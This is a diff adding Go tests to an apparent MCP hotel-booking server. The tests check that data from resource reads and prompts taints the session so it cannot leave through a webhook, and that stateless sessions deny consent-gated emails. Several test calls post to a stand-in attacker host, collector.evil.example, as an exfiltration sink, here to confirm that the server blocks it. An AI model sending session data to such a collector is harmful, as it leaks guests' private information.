@@ -613,3 +613,81 @@ func TestDeclassificationNeedsTheUser(t *testing.T) {
 		})
 	}
 }
+
+// TestResourcesAndPromptsLabelTheSession: what a resource read or a prompt
+// returns joins the caller's flow taint like a tool result, so it cannot
+// leave through a sink afterwards.
+func TestResourcesAndPromptsLabelTheSession(t *testing.T) {
+	h := start(t, false)
+	d := h.app.Data
+	ctx := context.Background()
+	_, booking := paidBooking(t, d)
+	g := someGuest(t, d)
+	for i, c := range []struct {
+		read   func(cs *mcp.ClientSession) error
+		origin string
+	}{
+		{func(cs *mcp.ClientSession) error {
+			_, err := cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: hotel.BookingURI(booking)})
+			return err
+		}, "resource:booking"},
+		{func(cs *mcp.ClientSession) error {
+			_, err := cs.GetPrompt(ctx, &mcp.GetPromptParams{Name: hotel.PromptGuestBriefing, Arguments: map[string]string{"guest": g.FullName}})
+			return err
+		}, "prompt:" + hotel.PromptGuestBriefing},
+	} {
+		tok, err := h.app.Issuer.Mint(devissuer.Token{Subject: "carol+label" + string(rune('a'+i)), Groups: []string{"/tenants/acme/hotels/acme-paris"}, Roles: []string{"front_desk"}, TTL: time.Hour})
+		if err != nil {
+			t.Fatal(err)
+		}
+		cs := h.connect(t, tok)
+		// Before the read, the session holds nothing: the webhook is fine.
+		if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "post_webhook", Arguments: map[string]any{"url": "https://collector.evil.example/in", "body": "hi"}}); err != nil {
+			t.Fatalf("%s: clean session denied: %v", c.origin, err)
+		}
+		if err := c.read(cs); err != nil {
+			t.Fatal(err)
+		}
+		_, err = cs.CallTool(ctx, &mcp.CallToolParams{Name: "post_webhook", Arguments: map[string]any{"url": "https://collector.evil.example/in", "body": "hi"}})
+		if err == nil {
+			t.Fatalf("%s: the data left through the webhook", c.origin)
+		}
+		var data struct {
+			Witness flow.Witness `json:"witness"`
+		}
+		if je := rpcErr(t, err); je.Code != server.CodeDenied || json.Unmarshal(je.Data, &data) != nil ||
+			len(data.Witness.IntroducedBy) == 0 || data.Witness.IntroducedBy[0].Tool != c.origin {
+			t.Errorf("%s: denial %v, witness %+v", c.origin, err, data.Witness)
+		}
+	}
+}
+
+// TestStatelessCannotAskForConsent: stateless HTTP has no way to ask the
+// user mid-call, so a call a rule could allow is denied even for a client
+// that would accept.
+func TestStatelessCannotAskForConsent(t *testing.T) {
+	h := start(t, true)
+	guest, booking := paidBooking(t, h.app.Data)
+	asked := 0
+	cs := h.connectWith(t, h.tokenFor(t, "carol"), &mcp.ClientOptions{ElicitationHandler: func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
+		asked++
+		return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"allow": true}}, nil
+	}})
+	if _, res := call[hotel.BookingDetail](t, cs, "get_booking", map[string]any{"id": booking}); res.IsError {
+		t.Fatal(text(res))
+	}
+	before := len(h.app.Outbox.Messages())
+	_, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "send_confirmation_email", Arguments: map[string]any{"to": guest.Email, "body": "invoice"}})
+	if err == nil || len(h.app.Outbox.Messages()) != before || asked != 0 {
+		t.Fatalf("stateless consent: err %v, asked %d", err, asked)
+	}
+	var consent string
+	for _, r := range h.auditRecords(t) {
+		if r["tool"] == "send_confirmation_email" {
+			consent, _ = r["consent"].(string)
+		}
+	}
+	if consent != server.ConsentUnsupported {
+		t.Errorf("audit consent %q", consent)
+	}
+}
